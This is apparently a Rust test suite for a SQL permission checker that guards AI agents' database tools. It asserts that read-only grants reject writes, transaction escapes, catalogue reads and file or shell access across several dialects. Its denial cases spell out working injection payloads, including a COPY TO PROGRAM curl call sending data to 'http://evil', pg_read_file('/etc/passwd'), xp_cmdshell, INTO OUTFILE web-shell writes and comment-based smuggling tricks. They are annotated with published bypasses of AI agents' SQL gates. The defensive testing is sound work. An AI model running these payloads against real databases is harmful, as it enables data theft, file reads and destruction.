//! What is granted and what is not, statement by statement. A name in a comment says whose gate let the denied one
//! through.

mod depth;

use super::{Dialect, SqlRules, read};
use crate::model::policy::SqlGrant;

fn grant(statements: &[&str], tables: &[&str]) -> SqlGrant {
    SqlGrant {
        statements: statements.iter().map(|word| (*word).to_owned()).collect(),
        tables: Some(tables.iter().map(|word| (*word).to_owned()).collect()),
        search_path: Some("public".into()),
        ..SqlGrant::default()
    }
}

fn verdict(grant: &SqlGrant, dialect: Dialect, text: &str) -> Result<(), String> {
    SqlRules::new(grant).unwrap().check(&read(text, dialect)?)
}

/// Under a grant that only reads `public.orders`.
fn reading(dialect: Dialect, text: &str) -> Result<(), String> {
    verdict(&grant(&["select"], &["public.orders"]), dialect, text)
}

#[track_caller]
fn allows(dialect: Dialect, text: &str) {
    reading(dialect, text).unwrap_or_else(|why| panic!("{dialect:?} denies {text}: {why}"));
}

#[track_caller]
fn denies(dialect: Dialect, text: &str) {
    assert!(reading(dialect, text).is_err(), "{dialect:?} allows {text}: {:?}", read(text, dialect));
}

const ALL: [Dialect; 5] = [Dialect::Generic, Dialect::Postgres, Dialect::Sqlite, Dialect::Mysql, Dialect::Mssql];

#[test]
fn a_select_of_a_granted_table_passes_in_every_dialect() {
    for dialect in ALL {
        allows(dialect, "SELECT id, total FROM orders WHERE id = 1");
        allows(dialect, "select count(*), max(total) from public.orders o where o.note like 'a%' order by 1;");
        allows(dialect, "SELECT * FROM orders -- the orders\n WHERE note = 'it''s; DROP TABLE x'");
        allows(dialect, "WITH big AS (SELECT * FROM orders WHERE total > 10) SELECT * FROM big");
        allows(dialect, "SELECT * FROM orders WHERE id IN (SELECT id FROM public.orders UNION SELECT 2)");
    }
    allows(Dialect::Postgres, "EXPLAIN SELECT * FROM orders");
    allows(Dialect::Postgres, "EXPLAIN ANALYZE SELECT * FROM orders");
    allows(Dialect::Sqlite, "EXPLAIN QUERY PLAN SELECT * FROM orders");
}

#[test]
fn what_writes_is_not_a_select() {
    for dialect in ALL {
        for text in [
            "INSERT INTO orders (id) VALUES (1)",
            "UPDATE orders SET total = 0",
            "DELETE FROM orders",
            "DROP TABLE orders",
            "CREATE TABLE orders (id int)",
            "CREATE TABLE x AS SELECT * FROM orders",
            "ALTER TABLE orders ADD COLUMN x int",
            "TRUNCATE TABLE orders",
            "SELECT 1; DROP TABLE orders",
            "SELECT 1; SELECT 2; DELETE FROM orders",
            "GRANT ALL ON orders TO public",
            "",
            ";",
            "-- nothing",
        ] {
            denies(dialect, text);
        }
    }
}

#[test]
fn a_read_only_transaction_cannot_be_left() {
    // Anthropic's PostgreSQL MCP server ran the text inside BEGIN TRANSACTION READ ONLY, and the text ended it.
    // https://securitylabs.datadoghq.com/articles/mcp-vulnerability-case-study-SQL-injection-in-the-postgresql-mcp-server/
    for dialect in ALL {
        for text in [
            "COMMIT; DROP SCHEMA public CASCADE;",
            "COMMIT",
            "ROLLBACK; DELETE FROM orders",
            "BEGIN; SELECT 1; COMMIT",
            "SET TRANSACTION READ WRITE",
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
            "SET default_transaction_read_only = off",
            "RESET ALL",
        ] {
            denies(dialect, text);
        }
    }
    denies(Dialect::Postgres, "SET ROLE postgres");
    denies(Dialect::Postgres, "SET SESSION AUTHORIZATION postgres");
    denies(Dialect::Postgres, "RESET ROLE");
    denies(Dialect::Postgres, "END; DROP TABLE orders");
}

/// Gates that looked at the first word, or not at each place where a function may stand.
#[test]
fn published_bypasses_of_read_only_gates_are_denied() {
    // https://github.com/hannesrudolph/sqlite-explorer-fastmcp-mcp-server/issues/8 and 12
    denies(Dialect::Sqlite, "WITH m10x AS (SELECT 1) DELETE FROM orders");
    denies(Dialect::Sqlite, "WITH x AS (SELECT 1) DELETE FROM orders -- limit");
    // https://github.com/perrypixel/Easy-Postgres-MCP/issues/3
    denies(Dialect::Postgres, "WITH x AS (SELECT 1) UPDATE orders SET total = 1");
    // https://github.com/srthkdev/omnisql-mcp/issues/19
    denies(Dialect::Postgres, "WITH ins AS (INSERT INTO orders (id) VALUES (1) RETURNING 1) SELECT 1");
    // https://github.com/cubrid-lab/cubrid-mcp-server/issues/40
    denies(Dialect::Mysql, "SELECT * FROM orders FOR UPDATE");
    // https://github.com/crystaldba/postgres-mcp/issues/178: the name of a function was only checked outside of FROM.
    denies(Dialect::Postgres, "SELECT * FROM pg_read_file('/etc/passwd')");
    denies(Dialect::Postgres, "SELECT * FROM orders CROSS JOIN LATERAL pg_read_file(note) AS f");
    denies(Dialect::Postgres, "SELECT * FROM orders o, pg_catalog.pg_read_file('/etc/passwd') WITH ORDINALITY");
    // @executeautomation/database-server, GHSA-65hm-pwj5-73pw: startsWith("SELECT").
    denies(Dialect::Postgres, "SELECT 1; COMMIT; DROP TABLE orders");
    denies(Dialect::Postgres, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity");
    // MySQL writes files from a SELECT.
    denies(Dialect::Mysql, "SELECT '<?php' INTO OUTFILE '/var/www/x.php'");
    denies(Dialect::Mysql, "SELECT 1 INTO @x FROM orders; SELECT sleep(1)");
}

#[test]
fn a_statement_inside_another_counts() {
    let p = Dialect::Postgres;
    denies(p, "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone");
    denies(p, "WITH x AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT * FROM x");
    denies(p, "WITH x AS (UPDATE orders SET total = 1 RETURNING id) SELECT * FROM x");
    denies(p, "EXPLAIN ANALYZE DELETE FROM orders");
    denies(p, "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders");
    denies(p, "EXPLAIN (FORMAT JSON) UPDATE orders SET total = 0");
    denies(p, "PREPARE x AS DELETE FROM orders");
    denies(p, "EXECUTE x");
    denies(p, "SELECT * INTO public.orders2 FROM orders");
    denies(p, "SELECT * FROM orders FOR UPDATE");
    denies(p, "COPY (SELECT * FROM orders) TO PROGRAM 'curl -d @- http://evil'");
    denies(p, "COPY orders TO '/tmp/x'");
    denies(p, "COPY orders FROM PROGRAM 'sh -c id'");
    denies(p, "DO $$ BEGIN DELETE FROM orders; END $$");
    denies(p, "CALL drop_everything()");
    denies(p, "VACUUM orders");
    denies(p, "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE");
    denies(p, "LISTEN x");
    denies(p, "CREATE EXTENSION dblink");
    denies(p, "CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS $$ import os $$");
    denies(p, "TABLE orders");
    denies(Dialect::Mssql, "EXEC xp_cmdshell 'dir'");
    denies(Dialect::Mssql, "DECLARE @x varchar(10) = 'x'; EXEC(@x)");
    denies(Dialect::Mssql, "MERGE INTO orders AS t USING orders AS s ON t.id = s.id WHEN MATCHED THEN DELETE;");
    denies(Dialect::Mssql, "IF 1 = 1 BEGIN DELETE FROM orders; END");
}

#[test]
fn a_writing_statement_passes_where_it_is_granted_and_only_on_its_tables() {
    let rules = SqlGrant { writes: Some(vec!["audit".into()]), ..grant(&["select", "insert"], &["orders"]) };
    let check = |text| verdict(&rules, Dialect::Postgres, text);
    check("INSERT INTO audit (note) VALUES ('x') RETURNING id").unwrap();
    check("INSERT INTO public.audit SELECT id FROM orders").unwrap();
    check("WITH x AS (INSERT INTO audit VALUES (1) RETURNING id) SELECT id FROM x").unwrap();
    assert!(check("INSERT INTO orders VALUES (1)").unwrap_err().contains("public.orders"));
    assert!(check("INSERT INTO audit SELECT * FROM secrets").unwrap_err().contains("public.secrets"));
    assert!(
        check("INSERT INTO audit VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2").unwrap_err().contains("update")
    );
    assert!(verdict(&rules, Dialect::Sqlite, "REPLACE INTO audit VALUES (1)").unwrap_err().contains("delete"));
    assert!(
        verdict(&rules, Dialect::Sqlite, "INSERT OR REPLACE INTO audit VALUES (1)").unwrap_err().contains("delete")
    );
}

#[test]
fn other_tables_are_seen_wherever_they_stand() {
    for dialect in ALL {
        for text in [
            "SELECT * FROM users",
            "SELECT * FROM orders, users",
            "SELECT * FROM orders JOIN users ON true = true",
            "SELECT * FROM orders WHERE id = (SELECT max(id) FROM users)",
            "SELECT (SELECT password FROM users LIMIT 1) FROM orders",
            "SELECT * FROM orders UNION ALL SELECT * FROM users",
            "SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM users)",
            "SELECT CASE WHEN EXISTS (SELECT 1 FROM users) THEN 1 END FROM orders",
            "SELECT * FROM other.orders",
            "SELECT * FROM db.public.orders",
            "SELECT * FROM information_schema.tables",
            "WITH orders2 AS (SELECT * FROM users) SELECT * FROM orders2",
            "SELECT * FROM orders ORDER BY (SELECT 1 FROM users)",
        ] {
            denies(dialect, text);
        }
    }
    denies(Dialect::Postgres, "SELECT * FROM pg_shadow");
    denies(Dialect::Postgres, "SELECT * FROM pg_catalog.pg_authid");
    denies(Dialect::Sqlite, "SELECT sql FROM sqlite_master");
    denies(Dialect::Mysql, "SELECT * FROM mysql.user");
    denies(Dialect::Mssql, "SELECT * FROM sys.sql_logins");
}

#[test]
fn a_star_grants_a_schema_and_not_the_catalogue() {
    let all = grant(&["select"], &["public.*"]);
    let check = |text| verdict(&all, Dialect::Postgres, text);
    check("SELECT * FROM users JOIN public.orders USING (id)").unwrap();
    check("SELECT * FROM public.\"Order\"").unwrap();
    for text in [
        "SELECT * FROM pg_shadow",
        "SELECT * FROM secret.users",
        "SELECT * FROM \"public.users\".x",
        "SELECT * FROM pg_user",
    ] {
        assert!(check(text).is_err(), "{text}");
    }
    let any = grant(&["select"], &["*"]);
    verdict(&any, Dialect::Postgres, "SELECT * FROM a JOIN b.c USING (id)").unwrap();
    assert!(verdict(&any, Dialect::Postgres, "SELECT * FROM pg_catalog.pg_authid").is_err());
    let audit = grant(&["select"], &["public.audit_*"]);
    verdict(&audit, Dialect::Postgres, "SELECT * FROM audit_2024").unwrap();
    assert!(verdict(&audit, Dialect::Postgres, "SELECT * FROM audit").is_err());
    assert!(SqlRules::new(&grant(&[], &["*.orders"])).is_err());
    assert!(SqlRules::new(&grant(&[], &["public.or*ers"])).is_err());
}

#[test]
fn letter_case_follows_the_dialect() {
    let check = |tables: &[&str], dialect, text| verdict(&grant(&["select"], tables), dialect, text);
    check(&["public.orders"], Dialect::Postgres, "SELECT * FROM PUBLIC.Orders").unwrap();
    check(&["public.orders"], Dialect::Sqlite, "SELECT * FROM \"ORDERS\"").unwrap();
    check(&["public.Orders"], Dialect::Mssql, "SELECT * FROM [Public].[ORDERS]").unwrap();
    check(&["public.Orders"], Dialect::Mysql, "SELECT * FROM `Orders`").unwrap();
    check(&["public.\"Orders\""], Dialect::Postgres, "SELECT * FROM \"Orders\"").unwrap();
    assert!(check(&["public.orders"], Dialect::Postgres, "SELECT * FROM \"Orders\"").is_err());
    assert!(check(&["public.orders"], Dialect::Postgres, "SELECT * FROM \"public.orders\"").is_err());
    assert!(check(&["public.orders"], Dialect::Mysql, "SELECT * FROM ORDERS").is_err());
}

#[test]
fn a_function_is_granted_by_name_or_harmless() {
    for text in [
        "lower(note)",
        "count(*)",
        "coalesce(a, 1)",
        "now()",
        "CURRENT_USER",
        "extract(year from d)",
        "cast(a as text)",
        "row_number() over (partition by a order by b)",
        "pg_catalog.lower(note)",
        "date_trunc('day', d)",
        "substring(a from 1 for 2)",
    ] {
        allows(Dialect::Postgres, &format!("SELECT {text} FROM orders"));
    }
    // https://www.postgresql.org/docs/current/functions-admin.html, and what MCP servers were shown to run.
    for text in [
        "pg_read_file('/etc/passwd')",
        "pg_ls_dir('/')",
        "lo_import('/etc/passwd')",
        "lo_export(1, '/x')",
        "pg_sleep(1000)",
        "set_config('a', 'b', false)",
        "current_setting('x')",
        "pg_terminate_backend(1)",
        "nextval('s')",
        "setval('s', 1)",
        "query_to_xml('delete from orders', true, true, '')",
        "dblink('host=evil', 'select 1')",
        "public.lower(note)",
        "\"LOWER\"(note)",
        "PG_READ_FILE('/x')",
        "pg_catalog.pg_read_file('/x')",
        "\"pg_read_file\"('/x')",
        "database_to_xml(true, true, '')",
        "pg_reload_conf()",
        "lower(pg_read_file('/x'))",
        "public.lower (note)",
    ] {
        denies(Dialect::Postgres, &format!("SELECT {text} FROM orders"));
        denies(Dialect::Postgres, &format!("SELECT 1 FROM orders WHERE ({text}) IS NOT NULL"));
    }
    // These run an argument as a query: PostgreSQL itself was seen to insert through the first.
    denies(Dialect::Postgres, "SELECT ts_rewrite('a'::tsquery, 'SELECT f()::text::tsquery, ''b''::tsquery')");
    denies(Dialect::Postgres, "SELECT * FROM ts_stat('SELECT vector FROM users')");
    denies(Dialect::Postgres, "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)");
    denies(Dialect::Postgres, "SELECT * FROM orders, LATERAL pg_ls_dir('/') AS x");
    denies(Dialect::Postgres, "SELECT * FROM ROWS FROM (pg_ls_dir('/')) AS x");
    for text in
        ["load_extension('x')", "readfile('/etc/passwd')", "writefile('/x', 'y')", "edit('x')", "fts3_tokenizer('x')"]
    {
        denies(Dialect::Sqlite, &format!("SELECT {text}"));
    }
    denies(Dialect::Sqlite, "SELECT * FROM pragma_table_info('users')");
    for text in [
        "load_file('/etc/passwd')",
        "LOAD_FILE(0x2f)",
        "sleep(10)",
        "benchmark(1, 1)",
        "get_lock('a', 1)",
        "sys_exec('id')",
    ] {
        denies(Dialect::Mysql, &format!("SELECT {text}"));
    }
    denies(Dialect::Mssql, "SELECT * FROM OPENROWSET(BULK 'c:\\x', SINGLE_CLOB) AS x");
    denies(Dialect::Mssql, "SELECT * FROM OPENQUERY(linked, 'select 1')");
    let more = SqlGrant { functions: vec!["nextval".into()], ..grant(&["select"], &["orders"]) };
    verdict(&more, Dialect::Postgres, "SELECT nextval('s')").unwrap();
}

#[test]
fn what_only_looks_like_a_call_is_none() {
    let rules = |statements: &[&str]| SqlGrant { tables: None, ..grant(statements, &[]) };
    let create = |dialect, text| verdict(&rules(&["create"]), dialect, text);
    create(Dialect::Postgres, "CREATE TABLE logs (at timestamptz) PARTITION BY RANGE (at)").unwrap();
    assert!(create(Dialect::Postgres, "CREATE TABLE logs (at int) PARTITION BY RANGE (f(at))").is_err());
    assert!(create(Dialect::Postgres, "CREATE TABLE logs (at int DEFAULT range(1))").is_err());
    create(Dialect::Mysql, "CREATE INDEX i ON users (email(20), name)").unwrap();
    assert!(create(Dialect::Mysql, "CREATE INDEX i ON users ((f(email)))").is_err());
    assert!(create(Dialect::Postgres, "CREATE INDEX i ON users (f(20))").is_err());
    let upsert = |text| verdict(&rules(&["insert", "update"]), Dialect::Mysql, text);
    upsert("INSERT INTO a (n) VALUES (1) ON DUPLICATE KEY UPDATE n = VALUES(n)").unwrap();
    assert!(upsert("INSERT INTO a (n) VALUES (1) ON DUPLICATE KEY UPDATE n = VALUES(f(n))").is_err());
}

#[test]
fn servers_that_read_a_text_differently_are_not_asked_to() {
    // Executable comments: https://dev.mysql.com/doc/refman/8.4/en/comments.html
    for text in [
        "SELECT 1 /*!50000 ; DROP TABLE orders */",
        "SELECT 1 /*! UNION SELECT password FROM users */",
        "SELECT 1 /*M!100100 UNION SELECT 1 */",
        "SELECT /* a /* b */ 1 /* */",
        "SELECT 1 /* open",
        "SELECT 'open",
        "SELECT U&'\\0061' FROM orders",
        "SELECT 1\u{0}",
        "SELECT 1\rFROM orders",
        "SELECT\u{a0}1",
        "SELECT\u{b}1",
    ] {
        for dialect in ALL {
            denies(dialect, text);
        }
    }
    // A backslash before the quote: the rest is a string in one server, and SQL in the other.
    denies(Dialect::Mysql, r"SELECT 'a\' FROM orders; DROP TABLE users; -- '");
    denies(Dialect::Mysql, r"SELECT 'a\', (SELECT password FROM users) AS x, '' FROM orders");
    denies(Dialect::Generic, r"SELECT '\', password FROM users -- ' FROM orders");
    denies(Dialect::Postgres, r"SELECT 'a\' FROM orders");
    allows(Dialect::Mysql, r"SELECT 'it\'s' FROM `public`.orders");
    allows(Dialect::Mysql, r"SELECT 'C:\\dir\n' FROM orders");
    allows(Dialect::Postgres, r"SELECT E'it\'s' FROM orders");
    allows(Dialect::Postgres, r"SELECT 'a\b' FROM orders WHERE note ~ '^\d+$'");
    // `--` needs a space in MySQL, and `#` starts a comment there.
    denies(Dialect::Mysql, "SELECT 1--1 FROM users");
    denies(Dialect::Generic, "SELECT 1 --1\n FROM users");
    denies(Dialect::Generic, "SELECT * FROM orders # \n UNION SELECT * FROM users");
    // Dollar quotes end where PostgreSQL ends them.
    allows(Dialect::Postgres, "SELECT $$it's; DROP TABLE x$$ FROM orders");
    allows(Dialect::Postgres, "SELECT $a$ $$ $b$ ' $a$ FROM orders WHERE id = $1");
    denies(Dialect::Postgres, "SELECT $a$ x $a$; DROP TABLE orders; SELECT $a$ y $a$");
    denies(Dialect::Mysql, "SELECT $$ ' $$ , (SELECT 1 FROM users), $$ ' $$");
}

#[test]
fn what_the_parser_swallows_and_a_server_runs_is_refused() {
    denies(Dialect::Postgres, "COPY orders FROM STDIN; DROP TABLE users");
    let copy = grant(&["copy", "select"], &["orders"]);
    verdict(&copy, Dialect::Postgres, "COPY orders FROM STDIN").unwrap();
    verdict(&copy, Dialect::Postgres, "COPY orders TO STDOUT WITH (FORMAT csv);\n").unwrap();
    assert!(verdict(&copy, Dialect::Postgres, "COPY orders FROM STDIN; DROP TABLE users").is_err());
    assert!(verdict(&copy, Dialect::Postgres, "COPY orders FROM '/etc/passwd'").unwrap_err().contains("file"));
    // T-SQL needs no semicolon, so a statement can pass for an alias.
    for text in [
        "SELECT * FROM orders SHUTDOWN",
        "SELECT 1 x EXEC (@cmd)",
        "SELECT * FROM orders COMMIT",
        "SELECT 1 RECONFIGURE",
        "SELECT * FROM orders DROP TABLE users",
        "SELECT 1\nGO\nDROP TABLE users",
    ] {
        denies(Dialect::Mssql, text);
        denies(Dialect::Generic, text);
    }
    denies(Dialect::Postgres, "TABLE orders; COMMIT; SELECT 1");
    denies(Dialect::Mysql, "SELECT * FROM orders INTO OUTFILE '/tmp/x'");
    denies(Dialect::Mysql, "SELECT * INTO DUMPFILE '/tmp/x' FROM orders");
    denies(Dialect::Mysql, "LOAD DATA INFILE '/etc/passwd' INTO TABLE orders");
    denies(Dialect::Mysql, "HANDLER users OPEN");
    denies(Dialect::Mysql, "DELETE a FROM users AS a");
    denies(Dialect::Sqlite, "ATTACH DATABASE '/tmp/x' AS x");
    denies(Dialect::Sqlite, "VACUUM INTO '/tmp/x'");
    denies(Dialect::Sqlite, ".shell id");
}

#[test]
fn a_pragma_reads_or_writes() {
    let rules = grant(&["pragma"], &["public.orders"]);
    for text in
        ["PRAGMA table_info(orders)", "PRAGMA user_version", "PRAGMA table_info('orders')", "PRAGMA foreign_keys"]
    {
        verdict(&rules, Dialect::Sqlite, text).unwrap_or_else(|why| panic!("{text}: {why}"));
    }
    for text in [
        "PRAGMA user_version = 7",
        "PRAGMA writable_schema = 1",
        "PRAGMA table_info(users)",
        "PRAGMA journal_mode = DELETE",
        "PRAGMA query_only = 0",
        "PRAGMA wal_checkpoint",
        "PRAGMA optimize",
        "PRAGMA journal_mode(delete)",
    ] {
        assert!(verdict(&rules, Dialect::Sqlite, text).is_err(), "{text}: {:?}", read(text, Dialect::Sqlite));
    }
}

#[test]
fn an_alias_does_not_hide_the_table_that_changes() {
    let rules = SqlGrant { writes: Some(vec!["a".into()]), ..grant(&["select", "update", "delete"], &["public.*"]) };
    for (dialect, text) in [
        (Dialect::Mssql, "UPDATE a SET x = 1 FROM users AS a"),
        (Dialect::Mssql, "DELETE FROM a FROM users AS a"),
        (Dialect::Mssql, "WITH a AS (SELECT * FROM users) DELETE FROM a"),
        (Dialect::Mysql, "DELETE a FROM users AS a WHERE a.id = 1"),
        (Dialect::Mysql, "UPDATE users a JOIN orders b ON a.id = b.id SET a.x = 1"),
    ] {
        assert!(verdict(&rules, dialect, text).is_err(), "{text}: {:?}", read(text, dialect));
    }
    verdict(&rules, Dialect::Postgres, "UPDATE a SET x = 1 FROM users WHERE users.id = a.id").unwrap();
}

#[test]
fn the_dialect_is_guessed_from_the_name_of_the_server() {
    assert_eq!(Dialect::of_server("my-postgres"), Dialect::Postgres);
    assert_eq!(Dialect::of_server("pg"), Dialect::Postgres);
    assert_eq!(Dialect::of_server("mcp-server-sqlite"), Dialect::Sqlite);
    assert_eq!(Dialect::of_server("mariadb"), Dialect::Mysql);
    assert_eq!(Dialect::of_server("azure-sqlserver"), Dialect::Mssql);
    assert_eq!(Dialect::of_server("db"), Dialect::Generic);
    assert_eq!(Dialect::of_server("postgres-and-mysql"), Dialect::Generic);
    assert_eq!(Dialect::from_name("mysql"), Some(Dialect::Mysql));
    assert_eq!(Dialect::from_name("oracle"), None);
}
